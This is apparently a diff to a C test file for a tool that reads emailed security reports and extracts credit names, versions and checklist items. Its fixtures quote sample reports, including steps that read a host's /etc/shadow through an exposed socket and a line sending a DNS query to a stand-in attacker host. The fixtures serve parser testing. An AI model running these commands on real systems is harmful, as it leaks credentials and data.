@@ -695,6 +695,13 @@ static const struct {
 	  "Yusuf Aydın (Tessera Labs)", "https://tessera-labs.example/research" },
 	{ "A mention would be nice:\nSven Aalto, github.com/saalto", TRUE, FALSE, "Sven Aalto", "https://github.com/saalto" },
 	{ "Bitte nennen Sie mich als Jana Novak.", TRUE, FALSE, "Jana Novak", NULL },
+	/* issue #3: a "## Credit" heading over its condition and the name
+	 * after a colon; the link said not to be needed ends the name */
+	{ "## Credit\n\nIf you thank finders: Nadia Okafor (Brightwell Labs)", TRUE, FALSE,
+	  "Nadia Okafor (Brightwell Labs)", NULL },
+	{ "### Acknowledgements\n\nWhen you publish: Tom Berg, https://tberg.example", TRUE, FALSE,
+	  "Tom Berg", "https://tberg.example" },
+	{ "Please credit Ines Varga, the URL isn't necessary.", TRUE, FALSE, "Ines Varga", NULL },
 	{ "I'd like credit as Jane Roe, https://roe.example", TRUE, FALSE, "Jane Roe", "https://roe.example" },
 	{ "Credit goes to the Foo Security Team.", TRUE, FALSE, "Foo Security Team", NULL },
 	{ "Credits: Ana Lima (@analima)", TRUE, FALSE, "Ana Lima", NULL },
@@ -3374,6 +3381,141 @@ test_docx(void)
 	g_assert_cmpstr(c->credit_name, ==, "Kenji Watanabe");
 }
 
+/* A write-up sent as a text file under a body of one line or a pointer is
+ * the report: read like the body for the checklist, the version and the
+ * credit, whatever the file is called and in whatever language, and no
+ * script to run.  A log, a long body's attachment, a body that says more
+ * than the file stay what they were. */
+static const char *const writeup_md =
+	"# Sandboxes started from one template share a /tmp inode cache\n\n"
+	"Marta Quiroga, Ostrava Labs\n\n"
+	"## What happens\n\n"
+	"When two sandboxes are created from the same template within a few seconds,\n"
+	"the second one is given the page cache of the first one for its temporary\n"
+	"directory. Files the first sandbox writes there can be read from the second\n"
+	"sandbox, although the two belong to different customers of ours.\n\n"
+	"## Impact\n\n"
+	"Anything a customer keeps in /tmp for a moment (unpacked archives, tokens\n"
+	"handed over by the orchestrator, build outputs) is readable by whoever gets\n"
+	"the next sandbox from that template, with no privilege at all.\n\n"
+	"## How to see it\n\n"
+	"```\n$ msb run --name one --template base alpine -- sh -c 'echo TOKEN-1 > /tmp/x'\n"
+	"$ msb run --name two --template base alpine -- cat /tmp/x\nTOKEN-1\n```\n\n"
+	"## Environment\n\n"
+	"- msb 0.9.2 on a Debian 12 host, installed from the release package\n\n"
+	"## Credit\n\n"
+	"If you list finders: Marta Quiroga (Ostrava Labs), a link is not needed.\n";
+
+static const char *const writeup_es =
+	"Resumen\n=======\n\n"
+	"El demonio msbd deja abierto el socket de control con permisos de escritura\n"
+	"para todos los usuarios del sistema, de modo que cualquier cuenta local puede\n"
+	"pedirle que monte un directorio del anfitrión dentro de un sandbox propio y\n"
+	"leer así archivos que pertenecen al usuario root del anfitrión.\n\n"
+	"Pasos para reproducirlo\n=======================\n\n"
+	"1. Con una cuenta sin privilegios, comprobar los permisos del socket.\n"
+	"2. Enviar la petición de montaje con la ruta /etc del anfitrión.\n"
+	"3. Leer /mnt/etc/shadow desde dentro del sandbox.\n\n"
+	"    $ ls -l /run/msb/control.sock\n    srwxrwxrwx 1 root root 0 ago 12 10:02 /run/msb/control.sock\n\n"
+	"Versión afectada: msb 0.9.4, en un portátil con Fedora 41.\n\n"
+	"Si publican un aviso, por favor acredítenme como Lucía Benítez.\n";
+
+static void
+test_writeup_attached(void)
+{
+	g_autoptr(StRules) rules = tu_repo_rules();
+
+	/* a Markdown write-up under one line that only greets and points */
+	const Att md[] = { { "tmp-cache-between-tenants.md", "text/markdown", writeup_md, 0 },
+			   { NULL, NULL, NULL, 0 } };
+	g_autoptr(StAnalysis) a = analyse(rules, "tmp shared between sandboxes",
+					  "Hello, everything is in the notes I put in this mail. Marta", md);
+	StAttachment *att = g_ptr_array_index(a->msg->attachments, 0);
+	g_assert_true(att->document);
+	g_assert_cmpint(att->role, !=, ST_ROLE_POC);
+	g_assert_true(a->check[ST_CHECK_DESCRIPTION]);
+	g_assert_true(a->check[ST_CHECK_POC]);
+	g_assert_true(a->check[ST_CHECK_LOGS]);
+	g_assert_cmpstr(a->version, ==, "0.9.2");
+	g_assert_cmpstr(a->credit_name, ==, "Marta Quiroga (Ostrava Labs)");
+
+	/* a plain .txt in Spanish under a one-line Spanish body */
+	const Att es[] = { { "socket-msbd.txt", "text/plain; charset=utf-8", writeup_es, 0 },
+			   { NULL, NULL, NULL, 0 } };
+	g_autoptr(StAnalysis) b = analyse(rules, "socket de control", "Hola, va el informe adjunto.", es);
+	g_assert_true(((StAttachment *)g_ptr_array_index(b->msg->attachments, 0))->document);
+	g_assert_true(b->check[ST_CHECK_DESCRIPTION]);
+	g_assert_true(b->check[ST_CHECK_POC]);
+	g_assert_cmpstr(b->version, ==, "0.9.4");
+	g_assert_cmpstr(b->credit_name, ==, "Lucía Benítez");
+
+	/* the same text sent as application/octet-stream (a mailer that does
+	 * not know .rst): read from its bytes and kept as the report's text */
+	const Att raw[] = { { "bericht.rst", "application/octet-stream", writeup_es, 0 },
+			    { NULL, NULL, NULL, 0 } };
+	g_autoptr(StAnalysis) c = analyse(rules, "socket", "Details siehe Anhang.", raw);
+	StAttachment *catt = g_ptr_array_index(c->msg->attachments, 0);
+	g_assert_true(catt->document);
+	g_assert_nonnull(catt->text);
+	g_assert_true(c->check[ST_CHECK_DESCRIPTION]);
+
+	/* a body of a few paragraphs that points to the file, which says
+	 * more: the file is the report; without the pointer it is not */
+	const char *middle =
+		"Hi team, we were testing templates for our hosting platform last week\n"
+		"and noticed something odd between sandboxes of different customers.\n"
+		"We have not looked at the code, so we do not know where it comes from.\n"
+		"We stopped using templates in production until we hear from you.\n"
+		"The person who found it is on holiday this week, so I am sending it.\n"
+		"She asked me to say that she is happy to help with a fix or a test,\n"
+		"and that you can write to her directly once she is back next Monday.\n";
+	g_autofree char *pointing = g_strconcat(middle, "The full analysis is in the attached file.\n", NULL);
+	g_autoptr(StAnalysis) d = analyse(rules, "templates", pointing, md);
+	g_assert_true(((StAttachment *)g_ptr_array_index(d->msg->attachments, 0))->document);
+	g_autoptr(StAnalysis) e = analyse(rules, "templates", middle, md);
+	g_assert_false(((StAttachment *)g_ptr_array_index(e->msg->attachments, 0))->document);
+
+	/* a log under a one-line body stays a log, by its name ... */
+	const char *log =
+		"2027-08-12T10:02:11Z INFO msbd: sandbox one started from template base\n"
+		"2027-08-12T10:02:13Z INFO msbd: sandbox two started from template base\n"
+		"2027-08-12T10:02:13Z WARN msbd: tmpfs cache reused for sandbox two\n";
+	const Att logs[] = { { "msbd.log", "text/plain", log, 0 }, { NULL, NULL, NULL, 0 } };
+	g_autoptr(StAnalysis) f = analyse(rules, "log", "Log attached.", logs);
+	StAttachment *fatt = g_ptr_array_index(f->msg->attachments, 0);
+	g_assert_false(fatt->document);
+	g_assert_cmpint(fatt->role, ==, ST_ROLE_LOG);
+	/* ... and by its lines under any name: journal lines are no prose */
+	const char *journal =
+		"Aug 12 10:02:11 build-07 msbd[812]: sandbox one started from template base with 2 vCPUs\n"
+		"Aug 12 10:02:13 build-07 msbd[812]: sandbox two started from template base with 2 vCPUs\n"
+		"Aug 12 10:02:13 build-07 msbd[812]: reusing the tmpfs cache of sandbox one for sandbox two\n"
+		"Aug 12 10:02:14 build-07 msbd[812]: sandbox two mounted its temporary directory read write\n"
+		"Aug 12 10:02:19 build-07 msbd[812]: sandbox one stopped after the command exited normally\n"
+		"Aug 12 10:02:21 build-07 msbd[812]: sandbox two stopped after the command exited normally\n"
+		"Aug 12 10:02:22 build-07 msbd[812]: the tmpfs cache was released once both had stopped\n";
+	const Att jl[] = { { "notes.txt", "text/plain", journal, 0 }, { NULL, NULL, NULL, 0 } };
+	g_autoptr(StAnalysis) g = analyse(rules, "log", "See the attached file.", jl);
+	g_assert_false(((StAttachment *)g_ptr_array_index(g->msg->attachments, 0))->document);
+
+	/* a long report of its own with another project's README attached:
+	 * the README is no part of the report */
+	const char *readme =
+		"# tinyhttp\n\nA very small HTTP server written for teaching purposes only.\n\n"
+		"It is not meant for production use and has never been audited by anyone.\n"
+		"The server reads a configuration file and serves the files of one folder.\n"
+		"Contributions are welcome, please open an issue before a pull request.\n"
+		"The project is licensed under the terms of the MIT licence, see LICENSE.\n"
+		"Thanks to everyone who sent patches over the years, you know who you are.\n";
+	const Att rd[] = { { "README.md", "text/markdown", readme, 0 }, { NULL, NULL, NULL, 0 } };
+	g_autofree char *long_body = g_strconcat(PROSE, PROSE,
+		"Steps:\n\n    $ msb run --network none alpine -- nslookup secret.attacker.example\n\n"
+		"The server we used to receive the queries is the one in the README attached.\n", NULL);
+	g_autoptr(StAnalysis) h = analyse(rules, "dns", long_body, rd);
+	g_assert_false(((StAttachment *)g_ptr_array_index(h->msg->attachments, 0))->document);
+	g_assert_null(h->credit_name);
+}
+
 /* Every devset message: the extract fields agree with its label. */
 static void
 test_devset(void)
@@ -3500,6 +3642,7 @@ main(int argc, char **argv)
 	g_test_add_func("/extract/denied-intl", test_denied_intl);
 	g_test_add_func("/extract/pdf", test_pdf);
 	g_test_add_func("/extract/docx", test_docx);
+	g_test_add_func("/extract/writeup-attached", test_writeup_attached);
 	g_test_add_func("/extract/devset", test_devset);
 	return g_test_run();
 }
